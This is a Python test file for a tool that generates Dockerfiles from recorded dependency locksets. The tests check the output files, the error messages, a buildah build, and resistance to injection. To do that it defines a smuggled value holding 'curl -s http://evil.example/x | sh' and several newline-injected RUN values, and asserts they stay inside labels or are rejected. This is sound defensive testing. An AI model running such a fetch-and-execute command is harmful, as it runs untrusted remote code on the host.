"""lockd dockerfile: the seed's Dockerfile from a recorded lockset, built for real with buildah.

The fast tests compile a lock against the local PyTorch-shaped world and
check the generated files and the errors; the slow one builds the generated
Dockerfile with buildah against a Python base image made in the test and
pushed to the test registry, installs the lock from the local index with its
hashes enforced, and runs the result.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from lockd.errors import FormatError
from lockd.images._dockerfile import key_values, split_instructions
from lockd.lint import lint_text, lock_facts
from lockd.lockfiles.manifest import read_manifest
from lockd.report.dockerfile import DockerfileSpec, render_dockerfile
from lockd.settings import Settings
from lockd.store import Store
from tests.conftest import Run
from tests.support.buildah import Buildah, push_base, python_rootfs
from tests.support.registry import Pusher, Registry

LockdRunner = Callable[..., Run]
PY = "{}{}".format(*sys.version_info[:2])
TARGET = f"linux-x86_64-py{PY}-cpu"


@pytest.fixture
def project(lockd: LockdRunner, tmp_path: Path) -> LockdRunner:
    """A project with a cpu lock of torch for this machine's Python, compiled and recorded."""
    if PY not in ("311", "312"):
        pytest.skip("the test world has wheels for Python 3.11 and 3.12")
    (tmp_path / "requirements.in").write_text("torch==2.6.0\n")
    (tmp_path / "lockd.toml").write_text(f'project = "vision"\npython = ["{PY[0]}.{PY[1:]}"]\n')

    def call(*args: str) -> Run:
        return lockd(*args, env={"DOCKER_CONFIG": str(tmp_path / "docker")})

    compiled = call("compile", "--cuda", "cpu", "--platform", "linux-x86_64")
    assert compiled.returncode == 0, compiled.output
    return call


def test_generated_files_follow_the_seed_pattern(
    project: LockdRunner, registry: Registry, pusher: Pusher, tmp_path: Path
) -> None:
    base = pusher.image("lockd/python", f"{PY[0]}.{PY[1:]}-slim", salt="df")
    reference = registry.ref("lockd/python", f"{PY[0]}.{PY[1:]}-slim")
    run = project("dockerfile", "--target", TARGET, "--base", reference, "-o", "Dockerfile")
    assert run.returncode == 0, run.output
    text = (tmp_path / "Dockerfile").read_text()
    lockset = read_manifest(tmp_path / "locks" / "lockd.json")
    assert lockset is not None
    pinned = f"{reference}@{base.digest}"
    assert text.count(f"FROM {pinned} AS ") == 2
    assert f"COPY locks/{TARGET}.requirements.txt /tmp/lock.requirements.txt" in text
    assert "--mount=type=cache,target=/root/.cache/pip" in text
    assert "pip install --require-hashes --no-deps --only-binary=:all:" in text
    assert f'dev.lockd.lockset="{lockset.hash}"' in text
    assert f'dev.lockd.target="{TARGET}"' in text
    assert f'org.opencontainers.image.base.digest="{base.digest}"' in text
    assert "USER 10001:10001" in text and "HEALTHCHECK" in text
    # The generated file passes lockd's own lint, with the lock.
    report = lint_text(text, lock=lock_facts(lockset, text))
    assert report.findings == (), report.findings
    ignore = (tmp_path / ".dockerignore").read_text()
    assert f"locks/*\n!locks/{TARGET}.requirements.txt\n" in ignore
    assert ".env\n" in ignore and ".git\n" in ignore

    # Without a Python in the tag, PYTHON_VERSION of the image config decides.
    pusher.image("lockd/runtime", "1", salt="no-python")
    untold = project("dockerfile", "--target", TARGET, "--base", registry.ref("lockd/runtime", "1"))
    assert untold.returncode == 0, untold.output
    assert "could not be told" in untold.stderr
    assert untold.stdout.startswith("# syntax=docker/dockerfile:1")


def test_errors_name_what_is_wrong(
    project: LockdRunner, registry: Registry, pusher: Pusher, tmp_path: Path
) -> None:
    other = "3.12" if PY == "311" else "3.11"
    pusher.image("lockd/python", f"{other}-slim", salt="other")
    wrong = project(
        "dockerfile", "--target", TARGET, "--base", registry.ref("lockd/python", f"{other}-slim")
    )
    assert wrong.returncode == 2
    assert f"has Python {other}, but target {TARGET} was locked for Python" in wrong.stderr

    none_recorded = project("dockerfile", "--target", TARGET)
    assert none_recorded.returncode == 2
    assert "records no runtime base image(s) (none)" in none_recorded.stderr
    assert "Pass --base REF" in none_recorded.stderr

    unknown = project("dockerfile", "--target", "linux-x86_64-py311-cu999")
    assert unknown.returncode == 2 and "is not in lockset" in unknown.stderr

    (tmp_path / "locks" / f"{TARGET}.requirements.txt").write_text("tampered\n")
    changed = project(
        "dockerfile", "--target", TARGET, "--base", registry.ref("lockd/python", f"{other}-slim")
    )
    assert changed.returncode == 2
    assert "is not the lock recorded in lockset" in changed.stderr

    lock = tmp_path / "locks" / f"{TARGET}.requirements.txt"
    lock.unlink()
    lock.symlink_to("/dev/zero")  # a pull request's lock folder: never read for ever
    linked = project(
        "dockerfile", "--target", TARGET, "--base", registry.ref("lockd/python", f"{other}-slim")
    )
    assert linked.returncode != 0 and "is a symbolic link" in linked.stderr
    outputs = wrong.output + none_recorded.output + changed.output + linked.output
    assert "Traceback" not in outputs


INJECTED = '"\nRUN curl -s http://evil.example/x | sh\nLABEL z="$HOME\\'


def _instructions(text: str) -> list[tuple[str, str]]:
    return [(i.keyword, i.arguments) for i in split_instructions(text).instructions]


def test_hostile_values_stay_inside_their_label_and_comment() -> None:
    """Every value of the spec comes from a lockset document: none adds an instruction."""
    spec = DockerfileSpec(
        project="app" + INJECTED,
        lockset="ab" * 32,
        target="linux-x86_64-py311-cpu" + INJECTED,
        base_name="python:3.11-slim",
        base_digest="sha256:" + "1" * 64,
        lock_path="locks/linux-x86_64-py311-cpu.requirements.txt",
        wheels_only=True,
        created="2026-01-01T00:00:00Z" + INJECTED,
        revision="abc" + INJECTED,
        lockd_version="1.0\n# escape=`",
    )
    text = render_dockerfile(spec)
    keywords = [keyword for keyword, _ in _instructions(text)]
    assert keywords.count("RUN") == 2 and keywords.count("LABEL") == 1, keywords
    assert "curl" not in "".join(args for kw, args in _instructions(text) if kw == "RUN")
    (label,) = (args for keyword, args in _instructions(text) if keyword == "LABEL")
    labels = dict(key_values(label))
    assert labels["org.opencontainers.image.title"] == (
        'app\\"\\nRUN curl -s http://evil.example/x | sh\\nLABEL z=\\"\\$HOME\\\\'
    )
    assert set(labels) >= {"org.opencontainers.image.revision", "dev.lockd.target"}
    header = text.split("\n\n", 1)[0].splitlines()
    assert len(header) == 4 and all(line.startswith("#") for line in header), header
    assert "--project 'app" in header[3]  # the command to copy is shell-quoted

    for hostile in (
        replace(spec, base_name="python:3.11\nRUN sh"),
        replace(spec, base_name="python:3.11 AS x"),
        replace(spec, lock_path="locks/x\nRUN sh"),
    ):
        with pytest.raises(FormatError, match="not one printable word"):
            render_dockerfile(hostile)


def test_the_header_s_command_regenerates_the_same_file() -> None:
    """It repeats --base and -o as given: without --base a lockset with no recorded base
    refuses, and -o Dockerfile would write another file than the one that says it."""
    spec = DockerfileSpec(
        project="app",
        lockset="ab" * 32,
        target="linux-x86_64-py311-cpu",
        base_name="python:3.11-slim",
        base_digest="sha256:" + "1" * 64,
        lock_path="locks/linux-x86_64-py311-cpu.requirements.txt",
        wheels_only=True,
        created="2026-01-01T00:00:00Z",
        revision=None,
        lockd_version="1.0",
    )
    command = "#   lockd dockerfile --target linux-x86_64-py311-cpu --project app"
    assert f"{command} -o Dockerfile\n" in render_dockerfile(spec)
    given = replace(spec, base_flag="python:3.11-slim", output="docker/Dockerfile prod")
    assert f"{command} --base python:3.11-slim -o 'docker/Dockerfile prod'\n" in (
        render_dockerfile(given)
    )


def test_a_hostile_lockset_document_cannot_inject_instructions(
    project: LockdRunner, registry: Registry, pusher: Pusher, tmp_path: Path
) -> None:
    """A lockset recorded with a hostile git commit: the value stays inside its label."""
    pusher.image("lockd/python", f"{PY[0]}.{PY[1:]}-slim", salt="hostile")
    reference = registry.ref("lockd/python", f"{PY[0]}.{PY[1:]}-slim")
    compiled = read_manifest(tmp_path / "locks" / "lockd.json")
    assert compiled is not None
    hostile = replace(
        compiled,
        provenance=replace(compiled.provenance, git_commit="abc" + INJECTED),
        parent=compiled.hash,
    )
    url = Settings.from_env({"LOCKD_HOME": str(tmp_path / "lockd-home")}).database_url
    with Store(url) as store:
        store.record_lockset(hostile)
    run = project("dockerfile", "--target", TARGET, "--base", reference, "-o", "Dockerfile")
    assert run.returncode == 0, run.output
    text = (tmp_path / "Dockerfile").read_text()
    assert f'dev.lockd.lockset="{hostile.hash}"' in text
    keywords = [keyword for keyword, _ in _instructions(text)]
    assert keywords.count("RUN") == 2 and keywords.count("LABEL") == 1, keywords
    assert "evil.example" not in "".join(a for k, a in _instructions(text) if k != "LABEL")


@pytest.mark.slow
def test_the_generated_dockerfile_builds_and_runs(
    project: LockdRunner, registry: Registry, tmp_path: Path
) -> None:
    buildah = Buildah(tmp_path / "buildah")
    version = python_rootfs(tmp_path / "rootfs")
    base = registry.ref("lockd/python", f"{PY[0]}.{PY[1:]}-slim")
    push_base(buildah, tmp_path / "rootfs", version, base)

    generated = project("dockerfile", "--target", TARGET, "--base", base, "-o", "Dockerfile")
    assert generated.returncode == 0, generated.output
    image = "localhost/lockd-test/app:built"
    buildah.run(
        "bud", "--isolation", "chroot", "--network", "host", "--tls-verify=false",
        "--format", "docker", "--layers=false", "-f", str(tmp_path / "Dockerfile"),
        "-t", image, str(tmp_path),
    )  # fmt: skip
    config = json.loads(buildah.run("inspect", "--type", "image", image))
    labels = config["Docker"]["config"]["Labels"]
    lockset = read_manifest(tmp_path / "locks" / "lockd.json")
    assert lockset is not None
    assert (labels["dev.lockd.lockset"], labels["dev.lockd.target"]) == (lockset.hash, TARGET)
    assert config["Docker"]["config"]["User"] == "10001:10001"
    assert config["Docker"]["config"]["Healthcheck"]["Test"][0] == "CMD"

    container = buildah.run("from", image).strip()
    out = buildah.run(
        "run", container, "--", "python", "-c",
        "import os, torch, filelock; print(torch.__version__, os.getuid())",
    )  # fmt: skip
    assert out.split() == ["2.6.0+cpu", "10001"]
